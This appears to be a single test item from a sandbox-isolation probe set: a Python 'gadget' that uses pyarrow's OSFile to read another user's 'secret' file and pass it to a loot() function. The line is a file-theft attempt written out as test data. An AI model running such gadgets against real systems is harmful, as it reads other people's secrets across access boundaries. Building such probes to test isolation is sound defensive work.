# kind: gadgets
# tries: pyarrow opens another user's file

import pyarrow as pa

loot(pa.OSFile(VICTIM["secret"]).read().decode())
